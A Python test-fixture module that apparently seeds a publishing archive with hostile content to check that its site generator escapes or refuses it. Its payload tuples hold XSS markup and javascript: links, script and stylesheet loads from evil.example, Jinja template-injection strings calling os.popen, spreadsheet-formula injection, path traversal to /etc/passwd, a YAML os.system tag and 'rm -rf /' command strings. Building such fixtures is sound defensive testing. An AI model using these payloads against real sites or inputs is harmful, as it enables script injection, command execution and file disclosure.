"""An archive that wants to harm its readers: payloads in every place into which a contributor can write."""

from __future__ import annotations

import json
import re
from collections.abc import Mapping, Sequence
from pathlib import Path

KINDS = ("people", "organizations", "places", "topics")
PROSE = "The council voted on Tuesday to repair the roof of the market hall before the winter begins."
EVIL = "https://evil.example"

# What runs, loads, frames, sends or leads elsewhere, where a page lets it.
MARKUP = (
    "<script>alert(1)</script>",
    f"<script src={EVIL}/x.js></script>",
    '"><script>alert(1)</script>',
    "'-alert(1)-'",
    "<img src=x onerror=alert(1)>",
    f'<img srcset="{EVIL}/a.png 1x, {EVIL}/b.png 2x">',
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    f"<svg><use href='{EVIL}/x.svg#a'/></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src onerror=alert(1)&gt;'>",
    f'<meta http-equiv="refresh" content="0;url={EVIL}/">',
    f"<base href={EVIL}/>",
    f"<form action={EVIL}/><input autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>Go",
    f"<iframe src={EVIL}/></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    f"<object data={EVIL}/x></object><embed src={EVIL}/x>",
    f"<link rel=stylesheet href={EVIL}/x.css><style>@import '{EVIL}/y.css'; *{{color:url({EVIL}/z)}}</style>",
    f"<p style='position:fixed;inset:0;background:url({EVIL}/x);width:expression(alert(1))'>over all</p>",
    f"<a href=javascript:alert(1) ping={EVIL}/>link</a><a href='java&#10;script:alert(1)'>link</a>",
    f"<video poster={EVIL}/x.png src={EVIL}/x.mp4 autoplay></video><audio src={EVIL}/x.mp3 autoplay>",
    "<details open ontoggle=alert(1)>",
    f"<template><img src={EVIL}/t.png></template><portal src={EVIL}/>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "</title></script></style></textarea></template></article></main></body><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    '" onmouseover="alert(1)" autofocus onfocus="alert(1)" x="',
    "`onclick=alert(1)` x=`",
    "<div data-pagefind-body data-pagefind-meta='title:x' data-md-component=header id=__search>",
    "<h1 class=cf-head hidden id=main>",
)
MARKDOWN = (
    "[a](javascript:alert(1))",
    "[a](<javascript:alert(1)> 'title')",
    "[a](JaVaScRiPt&colon;alert(1))",
    "[a](&#106;&#97;&#118;&#97;script:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](vbscript:msgbox(1)) [b](file:///etc/passwd)",
    f"![a]({EVIL}/x.png) ![b](javascript:alert(1))",
    f'[a]({EVIL}/x "onmouseover=alert(1)") [a]({EVIL}/x\'"><script>alert(1)</script>)',
    "[a][r]\n\n[r]: javascript:alert(1) 'title'",
    f"![a][p]\n\n[p]: {EVIL}/p.png",
    "<javascript:alert(1)> <data:text/html,x> <https://a.example/><script>alert(1)</script>",
    "{: onclick=alert(1) #main .cf-head }",
    "```html\n<script>alert(1)</script>\n```",
    "~~~ {.x onclick=alert(1)}\n~~~",
    "    <script>alert(1)</script>",
    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| [a](javascript:alert(1)) | c |",
    "*[HTML]: <script>alert(1)</script>\n\nHTML[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "--8<-- \"/etc/passwd\"\n\n{% include '/etc/passwd' %}",
    "---\ntemplate: /etc/passwd\nhide: [navigation]\nsearch: {exclude: true}\n---",
    "\u0002klzzwxh:0000\u0003 \u0002wzxhzdk:0\u0003",
)
TEMPLATES = (
    "{{ config }} {{ 7*7 }} {{ page.__class__.__mro__ }}",
    "{% raw %} {% for x in (1).__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{# {{ cycler.__init__.__globals__.os.popen('id').read() }} #}",
    "${7*7} #{7*7} <%= 7*7 %>",
)
TEXTS = (
    "\u202egpj.exe\u202c \u2066isolated \u061cmark",
    "a\u2028b\u2029c</script><script>alert(1)</script>",
    "NUL\x00 BEL\x07 ESC\x1b[31m DEL\x7f CSI\x9b31m",
    "Z\u0351\u036b\u0343\u032aA\u0334\u0335\u0336L\u0337\u0338G\u0321O" * 6,
    "x" * 1500,
    "字" * 800,
    "\U0001f600\ufdfd" * 40,
    "\ufeff\u200b\u200d\ufffe\uffff",
    '=HYPERLINK("https://evil.example","x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3 @SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1\r\n=2+2",
    "}, title = {other}}\n@article{evil, url = {javascript:alert(1)}}",
    "\\input{/etc/passwd} \\write18{id} % $ & # _ ^ ~ \\",
    "one\nER  - \n\nTY  - NEWS\nUR  - javascript:alert(1)",
    "]]></title><item><link>javascript:alert(1)</link></item>",
    "!!python/object/apply:os.system ['id']",
    "&a [*a, *a] <<: *a",
    "../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "/etc/passwd\u0000.md",
    "__proto__ constructor toString hasOwnProperty",
    "%s %n %d {0} {name} $(id) `id` ; rm -rf / | id",
    "undefined null NaN true - ~ ?",
)
PAYLOADS = (*MARKUP, *MARKDOWN, *TEMPLATES, *TEXTS)
UNPRINTABLE = re.compile(r"[\x7f-\x9f\u2028\u2029\ufeff\ufffe\uffff]")
# What an address may hold and still be one.
ADDRESSES = (
    "https://a.example/)<script>",
    "https://a.example/?q=%22%3E%3Cscript%3Ealert(1)%3C/script%3E",
    "https://a.example/`onclick=alert(1)`",
    "https://user:password@a.example/{{7*7}}",
    "http://a.example/\\..\\[a](javascript:alert(1))",
    "https://a.example/\u202egpj",
    "javascript:alert(1)//https://a.example/",
    "https://a.example/=1+1,x",
)
# File names that git and a disk accept.
NAMES = (
    '"><img src=x onerror=alert(1)>',
    "{{ config }}",
    "..",
    "-rf",
    "index",
    "a\nb",
    "%2e%2e",
    "=1+1",
    "' onmouseover='alert(1)",
)
FORMATS = {"txt": "{0}", "md": "# {0}", "html": "<html><body><article><h1>{0}</h1><p>{1}</p>{0}</article>"}


def shared_payloads(folder: Path) -> tuple[str, ...]:
    """The hostile strings of the development data; none where there is no such folder."""
    if not folder.is_dir():
        return ()
    naughty: list[str] = json.loads((folder / "naughty-strings.json").read_text(encoding="utf-8"))
    cases = json.loads((folder / "dompurify.json").read_text(encoding="utf-8"))
    return (*naughty, *(str(case["payload"]) for case in cases))


def in_doses(payloads: Sequence[str], size: int) -> list[Sequence[str]]:
    """The payloads, some to a page: that every page can be opened."""
    return [payloads[start : start + size] for start in range(0, len(payloads), size)]


def hostile_seeds(doses: Sequence[Sequence[str]]) -> dict[str, str | bytes]:
    """Path below the seeds → what stands there: each dose as text, as every field, and as names."""
    files: dict[str, str | bytes] = {}
    for number, dose in enumerate(doses):
        files |= _texts(number, dose) | _described(number, dose) | _collection(number, dose)
    for kind in KINDS:
        mine = [pair for pair in _numbered(doses) if KINDS[pair[0] % len(KINDS)] == kind]
        files[f"authority/{kind}.yml"] = json.dumps([_entry(kind, *pair) for pair in mine])
    return files | _named() | _steered()


def _numbered(doses: Sequence[Sequence[str]]) -> list[tuple[int, str]]:
    return list(enumerate(" ".join(dose) for dose in doses))


def _entry(kind: str, number: int, name: str) -> Mapping[str, object]:
    more: Mapping[str, object] = (
        {"terms": {"en": [name]}} if kind == "topics" else {"aliases": [name, f"x{name}"]}
    )
    return {"id": f"evil-{number}", "name": name or "x", "description": name, **more}


def _texts(number: int, dose: Sequence[str]) -> dict[str, str | bytes]:
    """The dose as headline and text, in each format, also where a page names a date and a byline."""
    said = "\n\n".join(f"{one}\n\n{PROSE} {one} said, “{one}”" for one in dose)
    joined = " ".join(dose)
    return {
        f"body-{number}.{suffix}": f"{head.format(joined, PROSE)}\n\nBy {joined}\n\n{said}\n".encode(
            "utf-8", "surrogatepass"
        )
        for suffix, head in FORMATS.items()
    }


def _described(number: int, dose: Sequence[str]) -> dict[str, str | bytes]:
    """An article all of whose fields hold the dose."""
    joined, listed = " ".join(dose), list(dose)
    fields = dict.fromkeys(("title", "summary", "rights", "note"), joined)
    lists = {"authors": listed, "tags": listed} | {name: [joined] for name in (*KINDS, "collections")}
    address = ADDRESSES[number % len(ADDRESSES)]
    records = {
        "quotes": [{"text": one, "speaker": dose[0]} for one in dose],
        "corrections": [{"date": "2021-01-01", "text": one} for one in dose],
        "media": [{"label": one, "url": address} for one in dose],
        "source": {"name": joined, "url": address, "archived_url": address, "retrieved": "2021-01-01"},
        "aliases": [
            *listed,
            *(f"people/{one}" for one in dose),
            "people/x/index",
            "feed.xml",
            "index.html/x",
        ],
    }
    declared = {
        **fields,
        **lists,
        **records,
        "date": "2020-01-01",
        "language": "en",
        "id": f"fields-{number}",
    }
    text = f"{PROSE} The dose has the number {number * 7919}, and nobody but its author wanted it.\n"
    return {f"fields-{number}.txt": text, f"fields-{number}.yml": _yaml(declared)}


def _yaml(value: object) -> str:
    """JSON, which is YAML where it holds no character that YAML refuses."""
    text = json.dumps(value, ensure_ascii=False)
    return UNPRINTABLE.sub(lambda match: f"\\u{ord(match[0]):04x}", text)


def _collection(number: int, dose: Sequence[str]) -> dict[str, str | bytes]:
    joined = " ".join(dose)
    listed = [f"body-{number}.{suffix}" for suffix in FORMATS]
    described = {"title": joined or "x", "description": "\n\n".join(dose), "articles": [*listed, *dose]}
    return {f"collections/dose-{number}.yml": json.dumps(described)}


def _named() -> dict[str, str | bytes]:
    """Seeds and collections whose file names are payloads."""
    files: dict[str, str | bytes] = {}
    for number, name in enumerate(NAMES):
        files[f"names/{name}.txt"] = f"Market hall {number}\n\n{PROSE}\n"
        files[f"collections/{name}.yml"] = json.dumps(
            {"title": f"Named {number}", "articles": ["body-0.txt"]}
        )
    return files


def _steered() -> dict[str, str | bytes]:
    """Values for fields that have a form of their own: each is refused, or is harmless."""
    files: dict[str, str | bytes] = {}
    for number, payload in enumerate((*PAYLOADS, *NAMES)):
        for field in ("id", "date", "language", "status", "translation_of", "updated", "retrieved"):
            files[f"steered/{field}-{number}.txt"] = f"Hall {field} {number}\n\n{PROSE}\n"
            files[f"steered/{field}-{number}.yml"] = json.dumps({field: payload, "template": "x.html"})
    return files
